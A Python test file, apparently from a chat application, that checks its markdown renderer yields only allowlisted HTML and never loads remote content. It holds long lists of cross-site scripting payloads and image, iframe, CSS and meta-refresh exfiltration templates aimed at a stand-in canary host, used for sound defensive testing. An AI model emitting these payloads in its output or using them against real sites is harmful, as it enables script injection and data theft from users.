"""Text from a model or a user neither runs in a browser nor makes it send a request."""

from __future__ import annotations

import re
from itertools import product
from urllib.parse import urlsplit

import pytest

from chat.page.rendering.blocks import make_safe_html
from chat.page.rendering.documents import MarkdownOptions
from chat.page.rendering.markdown import render_markdown
from chat.page.rendering.stream import MarkdownStream, split_markdown
from tests.cases import case
from tests.chat.page.rendering.mathml import MATHML_TAGS, assert_mathml_attributes
from tests.chat.page.rendering.pages import apply_update
from tests.parsed_html import ParsedHtml

#: Allowed tags and attributes, listed independently of the code under test.
TAGS_WITHOUT_ATTRIBUTES = [
    *("p", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "hr", "br", "table", "thead", "tbody"),
    *("em", "strong", "del", "b", "i", "u", "s", "mark", "sub", "sup", "kbd", "summary"),
]
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in TAGS_WITHOUT_ATTRIBUTES},
    "a": {"href", "title", "target", "rel", "id", "aria-label"},
    "button": {"type", "class", "data-action"},
    "code": {"class"},
    "details": {"open"},
    "div": {"class", "tabindex", "role", "aria-label", "data-all"},
    "input": {"type", "checked", "disabled", "aria-label"},
    "li": {"id"},
    "ol": {"start"},
    "pre": {"data-language", "tabindex", "role", "aria-label"},
    "section": {"class", "aria-label"},
    "span": {"class", "tabindex", "role", "aria-label"},
    "td": {"align"},
    "th": {"align", "scope", "data-column", "aria-sort"},
    "tr": {"data-row"},
}
CLASS = re.compile(
    r"code-block|code-head|quiet|table-(?:box|scroll|foot|actions)|markdown-table|muted|visually-hidden|footnotes|formula-(?:block|wide|source)|[a-z]{1,2}[a-z0-9]{0,2}"
)
LABELS = {"Code", "Footnotes", "Formula", "Task"}
TABLE_LABEL = re.compile(r"Table, [\d,]+ rows? × [\d,]+ columns?")
ACTIONS = {"copy", "sort", "copy-csv", "save-csv"}

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://e.example'>]>&y;",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src='x' onload='alert(1)' style='x:expression(alert(1))'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a id=x name=y href=x ping=//e.example>x</a>",
    "<base href='//e.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//e.example/x.css'>",
    "<style>@import '//e.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='</p><script>alert(1)</script>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<x hx-get=/admin hx-trigger=load>x</x>",
    "<div hx-get='/accounts/logout/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/c/new/' data-hx-trigger='revealed'>x</div>",
    "<div hx-on:load='alert(1)' hx-on::after-request='alert(1)'>x</div>",
    "<div hx-vals='js:{x:alert(1)}' hx-ext='x' hx-ws='connect:/ws'>x</div>",
    "<button data-action=stop form=composer>x</button>",
    "<article data-message-id=1 id=transcript class=message>x</article>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:http://e.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://e#Intent;scheme=javascript;end)",
    "[x](view-source:http://e.example)",
    '[x](http://e.example "onmouseover=alert(1)")',
    "[x](http://e.example '\"onmouseover=alert(1) x=\"')",
    '[x](http://e.example/"onmouseover="alert(1))',
    "[x](http://e.example/'onmouseover='alert(1))",
    "[x](http://e.example/><script>alert(1)</script>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)> 'x'\n\n[x][a]",
    "> [a]: data:text/html,<script>alert(1)</script>\n\n[a][]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<http://e.example/<script>alert(1)</script>>",
    'http://e.example/"onmouseover=alert(1)',
    "http://e.example/<script>alert(1)</script>",
    "www.e.example/'><script>alert(1)</script>",
    "a@e.example?body=<script>",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](x)',
    "![x](x '\" onerror=\"alert(1)')",
    "![x](javascript:alert(1))",
    "[![x](x)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1) \" onload=\"alert(1)\n'</span><script>'\n```",
    "~~~html\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "```math\n</span><script>alert(1)</script>\n```",
    "$</span><script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| [x](javascript:alert(1)) |\n|:-:|\n",
    "- [x] <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "[^<b>]\n\n[^<b>]: [x](javascript:alert(1))",
    "[x](#part-0-fn-1)",
    "[x](#transcript)",
    "[x](#a-fn-1/../../admin)",
    "```<button data-action=stop>\nx\n```",
    "~<script>~",
    "\\(</math><script>alert(1)</script>\\)",
    "\\[\\href{javascript:alert(1)}{x}\\]",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    '$\\mathrm{"onclick=alert(1) x="}$',
    "$$\\begin{array}{<script>}x\\end{array}$$",
    "1. <svg onload=alert(1)>",
    "# <script>alert(1)</script> {#transcript onclick=alert(1)}",
    "<script>alert(1)</script>\n===",
    "**<script>**alert(1)**</script>**",
    "<scr**i**pt>alert(1)</scr**i**pt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "[x]: http://e.example/ 'a' onclick=alert(1)\n[x]",
    '[x][y]\n\n[y]: http://e.example/?a="onclick=alert(1) (</a><script>)',
    '<a data-sourcepos="1:1-1:1" href="javascript:alert(1)">x</a>',
    '<img src="http://e.example/" alt="x" />',
    '<pre><code class="language-python">import os</code></pre>',
]

ADDRESS = "http://canary.example/"
EXFILTRATION = [
    *(
        template.format(ADDRESS + tail)
        for template, tail in product(
            [
                "![x]({})",
                '![x]({} "t")',
                "![x](<{}>)",
                "![]({})",
                "[![x]({})](https://e.example)",
                "![x][r]\n\n[r]: {}",
                "![r]\n\n[r]: <{}> 't'",
                "> ![r][]\n\n- [r]: {}",
                "| ![x]({}) |\n|---|\n",
                "- [ ] ![x]({})",
                "# ![x]({})",
                "**![x]({})**",
                "<img src='{}'>",
                '<img srcset="{} 2x">',
                "<picture><source srcset='{}'></picture>",
                "<video poster='{}'></video>",
                "<audio src='{}'></audio>",
                "<iframe src='{}'></iframe>",
                "<object data='{}'></object>",
                "<embed src='{}'>",
                "<link rel=prefetch href='{}'>",
                "<link rel=dns-prefetch href='{}'>",
                "<style>*{{background:url({})}}</style>",
                "<div style='background:url({})'>x</div>",
                "<table background='{}'><td>x</td></table>",
                "<input type=image src='{}'>",
                "<svg><image href='{}'/></svg>",
                "<svg><use href='{}#x'/></svg>",
                "<meta http-equiv=refresh content='0;url={}'>",
                "<script src='{}'></script>",
                "<form action='{}'><input autofocus></form>",
                "<body background='{}'>",
            ],
            ["?q=secret", "a/b.png?q=x&y=z", "%2e%2e/?<script>", "\u2028?q"],
        )
    )
]


def assert_only_allowed(html: str) -> None:
    """Check that every tag, attribute and value is allowed; only links have addresses, and those need a click."""
    parsed = ParsedHtml(html)
    assert not parsed.non_elements
    for element in parsed.elements:
        tag, attributes = element.tag, element.attributes
        if tag in MATHML_TAGS:
            assert_mathml_attributes(attributes)
            continue
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED[tag]
        assert all(CLASS.fullmatch(name) for name in attributes.get("class", "").split())
        if tag == "a":
            assert_safe_link(attributes)
        elif "aria-label" in attributes:
            assert TABLE_LABEL.fullmatch(attributes["aria-label"]) or attributes["aria-label"] in LABELS
        if tag == "button":
            assert attributes["type"] == "button"
            assert attributes["data-action"] in ACTIONS
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes


def assert_safe_link(attributes: dict[str, str]) -> None:
    """Check that a link leads to a web page in a new tab, or to a footnote, or nowhere."""
    if "href" not in attributes:
        assert not attributes
        return
    assert attributes["rel"] == "noopener noreferrer nofollow"
    if attributes["href"].startswith("#"):
        assert re.fullmatch(r"#[\w-]+-fn(ref)?-[\d-]+", attributes["href"])
        assert re.fullmatch(r"(Back to reference [\d-]+)?", attributes.get("aria-label", ""))
        return
    assert set(attributes) == {"href", "title", "target", "rel"}
    assert attributes["target"] == "_blank"
    assert urlsplit(attributes["href"]).scheme in ("http", "https", "mailto")
    assert attributes["title"] == attributes["href"]


def embed(payload: str) -> list[str]:
    """Return the payload alone and inside other markdown."""
    indented = payload.replace("\n", "\n  ")
    quoted = payload.replace("\n", "\n> ")
    return [
        payload,
        f"- {indented}",
        f"> {quoted}",
        f"text *a\n{payload}\nb*",
        f"a\n\n{payload}\n\n[r]: http://e.example",
    ]


def test_attack_in_markdown_gives_only_allowed_html_whole_and_streamed() -> None:
    for payload in SCRIPTS + EXFILTRATION:
        with case(payload):
            for text in embed(payload):
                assert_only_allowed(render_markdown(text))
                assert_only_allowed("".join(split_markdown(text, MarkdownOptions("part-7-0", has_line_breaks=True))))
                stream = MarkdownStream()
                closed_html = ""
                for start in range(0, len(text), 8):
                    stream.append(text[start : start + 8])
                    update = stream.update()
                    closed_html = apply_update(closed_html, update)
                    assert_only_allowed(closed_html)
                    assert_only_allowed(update.tail_html)
                    assert_only_allowed(closed_html + update.tail_html)


@pytest.mark.parametrize(
    "source",
    [
        '[x](javascript:alert(1) "t")',
        '[x](/settings "t")',
        '[x](<> "t")',
        "[x](data:text/html,y)",
        "[x](ftp://e.example)",
        "[x](//e.example)",
        "[x](#a)",
    ],
)
def test_link_to_no_web_or_mail_address_has_neither_address_nor_title(source: str) -> None:
    assert render_markdown(source) == "<p><a>x</a></p>\n"


def test_title_of_a_link_contains_no_unescaped_brackets() -> None:
    # The parser percent-encodes brackets in addresses, but safety must not depend on it.
    raw_html = '<p><a href="https://e.example/?&lt;script&gt;&lt;a title=&quot;y&quot;">x</a></p>'
    assert ' title="https://e.example/?&lt;script&gt;&lt;a title=&quot;y&quot;" ' in make_safe_html(raw_html)
    for source in ("[x](https://e.example/<script>)", "[x](https://e.example/&lt;script&gt; '<b>')"):
        parsed = ParsedHtml(render_markdown(source))
        assert [one.tag for one in parsed.elements] == ["p", "a"]
        assert re.search(r'="[^"]*[<>]', render_markdown(source)) is None


def test_lists_of_attacks_have_at_least_100_different_entries() -> None:
    assert len(set(SCRIPTS)) >= 120
    assert len(set(EXFILTRATION)) >= 100


@pytest.mark.parametrize("payload", [payload for payload in EXFILTRATION if payload.startswith("![x](http")])
def test_image_is_a_link_that_loads_nothing_until_it_is_clicked(payload: str) -> None:
    parsed = ParsedHtml(render_markdown(payload))
    assert [one.tag for one in parsed.elements] == ["p", "a"]
    assert parsed.text.startswith("x")


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("Saved: ![my plot](plot.png)", "Saved: ![my plot](plot.png)"),
        ("![](plot.png)", "![](plot.png)"),
        ("![p](sandbox:/mnt/data/plot.png)", "![p](sandbox:/mnt/data/plot.png)"),
        ("![p](attachment:plot.png 'a title')", "![p](attachment:plot.png)"),
        ("![p][r]\n\n[r]: plot.png", "![p](plot.png)"),
        ("![p](data:image/png;base64,iVBORw0KGgo=)", "![p](data:image/png;base64,iVBORw0KGgo=)"),
        ("![](https://e.example/y.png)", "Image"),
        ("![a *plot*](https://e.example/y.png 't')", "a plot"),
        ("[![built](https://e.example/y.svg)](https://e.example)", "built"),
        ('<img src="plot.png" alt="p">', '<img src="plot.png" alt="p">'),
    ],
)
def test_markdown_image_is_shown_as_its_description_or_as_typed_and_never_loaded(source: str, shown: str) -> None:
    parsed = ParsedHtml(render_markdown(source))
    assert "img" not in [one.tag for one in parsed.elements]
    assert parsed.text.strip() == shown
